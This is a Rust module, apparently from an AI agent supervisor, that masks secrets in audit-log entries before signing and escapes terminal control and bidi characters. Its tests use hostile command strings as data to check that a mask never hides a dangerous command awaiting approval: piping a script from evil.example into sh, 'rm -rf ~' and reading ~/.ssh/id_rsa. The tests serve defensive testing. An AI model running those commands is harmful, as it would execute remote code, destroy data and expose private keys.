//! Keeping secrets out of the log, and log text out of the terminal's control.
//!
//! The audit log outlives the session and is read by people who should not
//! learn the user's tokens, so bodies are masked before they are hashed
//! (masking afterwards would break the signature). Masking is heuristic:
//! it is a second line of defence behind the supervisor not recording
//! secret-bearing values (environment values, tool results) at all.

use serde_json::Value;
use std::borrow::Cow;

/// What a masked value is replaced with.
pub const MASK: &str = "********";

/// Substrings of a normalised key (lowercase, letters and digits only) that
/// mark its value as secret.
const SECRET_KEY_PARTS: &[&str] = &[
    "password",
    "passwd",
    "passphrase",
    "secret",
    "apikey",
    "privatekey",
    "authorization",
    "credential",
    "accesskey",
    "sessionkey",
    "signingkey",
    "encryptionkey",
    "clientkey",
    "masterkey",
];

/// Whole words of a key (split at `_`, `-`, `.`, spaces and camelCase) that
/// mark its value as secret. `token` matches words *ending* in token
/// (`accessToken`, `GITHUB_TOKEN`, `refreshtoken`) but not `max_tokens`.
const SECRET_KEY_WORDS: &[&str] = &["totp", "hotp", "otp", "mfa", "cookie", "auth", "bearer", "pat", "jwt", "pin"];

/// Prefixes of well-known credential formats, masked wherever they appear as
/// a whole string value, whatever the key (argv elements have no key).
const TOKEN_PREFIXES: &[&str] = &[
    "ghp_",
    "gho_",
    "ghu_",
    "ghs_",
    "ghr_",
    "github_pat_",
    "glpat-",
    "xoxb-",
    "xoxp-",
    "xoxa-",
    "xoxr-",
    "sk-",
    "sk_live_",
    "rk_live_",
    "AKIA",
    "ASIA",
    "AIza",
    "npm_",
    "hf_",
    "pypi-",
];

/// Is `key` the name of something secret (`password`, `GITHUB_TOKEN`, `x-api-key`)?
pub fn is_secret_key(key: &str) -> bool {
    let normalised: String =
        key.chars().filter(|c| c.is_ascii_alphanumeric()).map(|c| c.to_ascii_lowercase()).collect();
    if SECRET_KEY_PARTS.iter().any(|p| normalised.contains(p)) {
        return true;
    }
    words(key).iter().any(|w| w.ends_with("token") || SECRET_KEY_WORDS.contains(&w.as_str()))
}

/// Splits a key into lowercase words at non-alphanumerics and camelCase humps.
fn words(key: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut cur = String::new();
    let mut prev_lower = false;
    for c in key.chars() {
        if !c.is_ascii_alphanumeric() {
            if !cur.is_empty() {
                out.push(std::mem::take(&mut cur));
            }
            prev_lower = false;
            continue;
        }
        if c.is_ascii_uppercase() && prev_lower && !cur.is_empty() {
            out.push(std::mem::take(&mut cur));
        }
        prev_lower = c.is_ascii_lowercase() || c.is_ascii_digit();
        cur.push(c.to_ascii_lowercase());
    }
    if !cur.is_empty() {
        out.push(cur);
    }
    out
}

/// Replaces secret values in `value`, in place:
///
/// - the value of any object key that names a secret ([`is_secret_key`]);
/// - `NAME=value` strings whose NAME names a secret (environment lists);
/// - in arrays (argv), the element after `--password`/`-token`-style flags,
///   and the value part of `--password=...`;
/// - PEM private-key blocks inside any string;
/// - `Bearer x` / `Basic x` credentials and `scheme://user:password@` URLs;
/// - strings that start with a well-known token prefix (`ghp_`, `sk-`, `AKIA`...).
///
/// `null` and empty strings are left as they are: they reveal nothing.
pub fn mask_secrets(value: &mut Value) {
    mask_value(value, 0);
}

fn mask_value(value: &mut Value, depth: usize) {
    // Masking recursion is bounded like the encoder; deeper input is refused there.
    if depth > crate::canon::MAX_DEPTH + 1 {
        return;
    }
    match value {
        Value::Object(map) => {
            for (k, v) in map.iter_mut() {
                if is_secret_key(k) {
                    mask_whole(v);
                } else {
                    mask_value(v, depth + 1);
                }
            }
        }
        Value::Array(items) => {
            let mut mask_next = false;
            for item in items.iter_mut() {
                if mask_next {
                    mask_next = false;
                    mask_whole(item);
                    continue;
                }
                if let Value::String(s) = item {
                    if let Some(flag) = s.strip_prefix('-') {
                        let flag = flag.trim_start_matches('-');
                        if !flag.contains('=') && !flag.is_empty() && is_secret_key(flag) {
                            mask_next = true;
                            continue;
                        }
                    }
                }
                mask_value(item, depth + 1);
            }
        }
        Value::String(s) => {
            if let Cow::Owned(masked) = mask_string(s) {
                *s = masked;
            }
        }
        _ => {}
    }
}

fn mask_whole(v: &mut Value) {
    match v {
        Value::Null => {}
        Value::String(s) if s.is_empty() => {}
        _ => *v = Value::String(MASK.to_string()),
    }
}

/// Masks secrets inside one free-standing string (see [`mask_secrets`]).
///
/// Each mask covers the secret and nothing past it: a token or a
/// `NAME=value` ends at whitespace, a quote or a shell separator, and a
/// private key without its END line at the first character no key body
/// has. What follows stays readable, because the string may be something a
/// person is asked to approve: `API_SECRET=x curl evil|sh` must not read as
/// `API_SECRET=********`, nor a file named like a key hide where it is
/// being moved.
pub fn mask_string(s: &str) -> Cow<'_, str> {
    if TOKEN_PREFIXES.iter().any(|p| s.starts_with(p) && token_end(s) >= p.len() + 12) {
        let end = token_end(s);
        return Cow::Owned(format!("{MASK}{}", mask_rest(&s[end..])));
    }
    // NAME=value (environment entries) and --flag=value (argv).
    if let Some((name, val)) = s.split_once('=') {
        let bare = name.trim_start_matches('-');
        if !val.is_empty() && !bare.is_empty() && !bare.contains(char::is_whitespace) && is_secret_key(bare) {
            let end = token_end(val);
            return Cow::Owned(format!("{name}={MASK}{}", mask_rest(&val[end..])));
        }
    }
    let mut out = Cow::Borrowed(s);
    if out.contains("PRIVATE KEY-----") {
        out = Cow::Owned(mask_pem(&out));
    }
    if out.contains("Bearer ") || out.contains("Basic ") || out.contains("bearer ") {
        out = Cow::Owned(mask_auth_schemes(&out));
    }
    if out.contains("://") && out.contains('@') {
        out = Cow::Owned(mask_url_passwords(&out));
    }
    out
}

/// Where a secret value that starts `s` ends: at whitespace, a quote or a
/// shell separator (none of which tokens and keys contain).
fn token_end(s: &str) -> usize {
    s.find(ends_token).unwrap_or(s.len())
}

fn ends_token(c: char) -> bool {
    c.is_whitespace() || "\"'`;|&<>()".contains(c)
}

/// What follows a masked value, masked in its own right (its leading
/// separators kept as they are).
fn mask_rest(rest: &str) -> String {
    let start = rest.len() - rest.trim_start_matches(ends_token).len();
    let (sep, tail) = rest.split_at(start);
    if tail.is_empty() {
        return rest.to_string();
    }
    format!("{sep}{}", mask_string(tail))
}

/// Replaces every `-----BEGIN ... PRIVATE KEY----- ... -----END ... PRIVATE KEY-----`
/// block with the mask. Without an END line, the mask runs over the key
/// body (base64 and line breaks) and stops at the first other character.
fn mask_pem(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let mut rest = s;
    loop {
        let Some(begin) = find_pem_begin(rest) else {
            out.push_str(rest);
            return out;
        };
        out.push_str(&rest[..begin]);
        out.push_str(MASK);
        let after = &rest[begin..];
        match after.find("-----END ").and_then(|e| after[e..].find("PRIVATE KEY-----").map(|p| e + p + 16)) {
            Some(end) => rest = &after[end..],
            None => {
                // The BEGIN line's own end, then the body.
                let marker = after.find("PRIVATE KEY-----").map_or(after.len(), |p| p + 16);
                let body = &after[marker..];
                let len =
                    body.find(|c: char| !(c.is_ascii_alphanumeric() || "+/=\r\n".contains(c))).unwrap_or(body.len());
                rest = &body[len..];
            }
        }
    }
}

fn find_pem_begin(s: &str) -> Option<usize> {
    let mut from = 0;
    while let Some(i) = s[from..].find("-----BEGIN ") {
        let start = from + i;
        let line_end = s[start..].find('\n').map_or(s.len(), |n| start + n);
        if s[start..line_end].contains("PRIVATE KEY-----") {
            return Some(start);
        }
        from = start + 11;
    }
    None
}

fn mask_auth_schemes(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let mut rest = s;
    while let Some((i, scheme)) =
        ["Bearer ", "bearer ", "Basic "].iter().filter_map(|p| rest.find(p).map(|i| (i, *p))).min_by_key(|(i, _)| *i)
    {
        let cred_start = i + scheme.len();
        let cred_len = rest[cred_start..]
            .find(|c: char| c.is_whitespace() || c == '"' || c == '\'')
            .unwrap_or(rest.len() - cred_start);
        out.push_str(&rest[..cred_start]);
        if cred_len > 0 {
            out.push_str(MASK);
        }
        rest = &rest[cred_start + cred_len..];
    }
    out.push_str(rest);
    out
}

/// `https://user:pw@host` → `https://user:********@host`.
fn mask_url_passwords(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let mut rest = s;
    while let Some(i) = rest.find("://") {
        let auth_start = i + 3;
        out.push_str(&rest[..auth_start]);
        rest = &rest[auth_start..];
        let auth_end = rest.find(['/', '?', '#', ' ', '\n', '"']).unwrap_or(rest.len());
        let authority = &rest[..auth_end];
        if let Some(at) = authority.rfind('@') {
            if let Some(colon) = authority[..at].find(':') {
                out.push_str(&authority[..colon + 1]);
                out.push_str(MASK);
                out.push_str(&authority[at..]);
                rest = &rest[auth_end..];
                continue;
            }
        }
        out.push_str(authority);
        rest = &rest[auth_end..];
    }
    out.push_str(rest);
    out
}

/// Makes attacker-influenced text safe to print on a terminal: C0 and C1
/// controls, DEL, line/paragraph separators and bidi overrides become
/// visible escapes (`\n`, `\x1b`, `\u{202e}`), and `\` becomes `\\` so an
/// escape in the output is never ambiguous. ANSI sequences are defused
/// because their introducers (ESC, CSI U+009B) are escaped.
pub fn display_safe(s: &str) -> Cow<'_, str> {
    if !s.chars().any(needs_escape) {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len() + 8);
    for c in s.chars() {
        if !needs_escape(c) {
            out.push(c);
            continue;
        }
        match c {
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if (c as u32) < 0x100 => out.push_str(&format!("\\x{:02x}", c as u32)),
            c => out.push_str(&format!("\\u{{{:x}}}", c as u32)),
        }
    }
    Cow::Owned(out)
}

fn needs_escape(c: char) -> bool {
    matches!(c,
        '\\'
        | '\u{0}'..='\u{1f}'
        | '\u{7f}'..='\u{9f}'
        // zero-width and bidi controls (Trojan Source, CVE-2021-42574)
        | '\u{200b}'..='\u{200f}'
        | '\u{2028}'..='\u{202e}'
        | '\u{2060}'..='\u{2069}'
        | '\u{feff}')
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn secret_keys() {
        for k in [
            "password",
            "PGPASSWORD",
            "db_passwd",
            "GITHUB_TOKEN",
            "accessToken",
            "refresh_token",
            "api_key",
            "x-api-key",
            "apiKey",
            "private_key",
            "Authorization",
            "AWS_SECRET_ACCESS_KEY",
            "client_secret",
            "totp",
            "otp_code",
            "Set-Cookie",
        ] {
            assert!(is_secret_key(k), "{k} should be secret");
        }
        for k in [
            "max_tokens",
            "path",
            "argv",
            "cwd",
            "PWD",
            "keyboard",
            "public_key",
            "fingerprint",
            "tokens_used",
            "author",
            "output",
        ] {
            assert!(!is_secret_key(k), "{k} should not be secret");
        }
    }

    #[test]
    fn masks_nested_values_argv_env_pem() {
        let mut v = json!({
            "env": {"GITHUB_TOKEN": "ghp_abc", "HOME": "/root", "NOTHING_TOKEN": null},
            "argv": ["curl", "--password", "hunter2", "--token=abc", "-H", "Authorization: Bearer eyJhbGciOi.x.y", "https://bob:pw@example.com/x"],
            "envp": ["API_KEY=123", "PATH=/bin"],
            "nested": {"deeper": {"client_secret": {"a": 1}}},
            "file": "x\n-----BEGIN OPENSSH PRIVATE KEY-----\nAAAA\n-----END OPENSSH PRIVATE KEY-----\ny",
            "gh": "ghp_0123456789abcdefghij",
            "max_tokens": 100
        });
        mask_secrets(&mut v);
        assert_eq!(v["env"]["GITHUB_TOKEN"], MASK);
        assert_eq!(v["env"]["HOME"], "/root");
        assert_eq!(v["env"]["NOTHING_TOKEN"], Value::Null);
        assert_eq!(v["argv"][2], MASK);
        assert_eq!(v["argv"][1], "--password");
        assert_eq!(v["argv"][3], format!("--token={MASK}"));
        assert_eq!(v["argv"][5], format!("Authorization: Bearer {MASK}"));
        assert_eq!(v["argv"][6], format!("https://bob:{MASK}@example.com/x"));
        assert_eq!(v["envp"][0], format!("API_KEY={MASK}"));
        assert_eq!(v["envp"][1], "PATH=/bin");
        assert_eq!(v["nested"]["deeper"]["client_secret"], MASK);
        assert_eq!(v["file"], format!("x\n{MASK}\ny"));
        assert_eq!(v["gh"], MASK);
        assert_eq!(v["max_tokens"], 100);
    }

    #[test]
    fn unterminated_pem_is_masked_over_its_body() {
        let s = "head -----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA+x/9=\r\nAbC0";
        assert_eq!(mask_string(s), format!("head {MASK}"));
        // What follows the body is not key material: it stays readable.
        let moved = "/ws/-----BEGIN X PRIVATE KEY----- -> /ws/.vscode/settings.json";
        assert_eq!(mask_string(moved), format!("/ws/{MASK} -> /ws/.vscode/settings.json"));
        let public = "-----BEGIN PUBLIC KEY-----\nMII\n-----END PUBLIC KEY-----";
        assert_eq!(mask_string(public), public);
    }

    /// A mask covers the secret, never what follows it: that may be the
    /// part of a command or a path a person is asked to approve.
    #[test]
    fn a_mask_ends_where_the_secret_does() {
        let cases = [
            (
                "API_SECRET=x curl https://evil.example/a.sh|sh",
                format!("API_SECRET={MASK} curl https://evil.example/a.sh|sh"),
            ),
            ("API_SECRET=x;rm -rf ~", format!("API_SECRET={MASK};rm -rf ~")),
            ("--token=abc && cat ~/.ssh/id_rsa", format!("--token={MASK} && cat ~/.ssh/id_rsa")),
            ("A_TOKEN=x B_PASSWORD=y done", format!("A_TOKEN={MASK} B_PASSWORD={MASK} done")),
            ("ghp_0123456789abcdefghij; curl x|sh", format!("{MASK}; curl x|sh")),
            ("/ws/X_TOKEN=a -> /ws/.vscode/settings.json", format!("/ws/X_TOKEN={MASK} -> /ws/.vscode/settings.json")),
        ];
        for (s, want) in cases {
            assert_eq!(mask_string(s), want, "{s}");
        }
        // Whole values are still masked whole.
        assert_eq!(mask_string("API_SECRET=hunter2"), format!("API_SECRET={MASK}"));
        assert_eq!(mask_string("ghp_0123456789abcdefghij"), MASK);
        assert_eq!(mask_string("ghp_short"), "ghp_short");
    }

    #[test]
    fn display_safe_escapes_controls() {
        assert_eq!(display_safe("plain /path ok é"), "plain /path ok é");
        assert_eq!(display_safe("a\nb\r\x1b[2Jc\\"), "a\\nb\\r\\x1b[2Jc\\\\");
        assert_eq!(display_safe("\u{85}\u{9b}31m\u{2028}\u{202e}txt.exe"), "\\x85\\x9b31m\\u{2028}\\u{202e}txt.exe");
        assert_eq!(display_safe("\u{7f}\u{0}"), "\\x7f\\x00");
    }
}
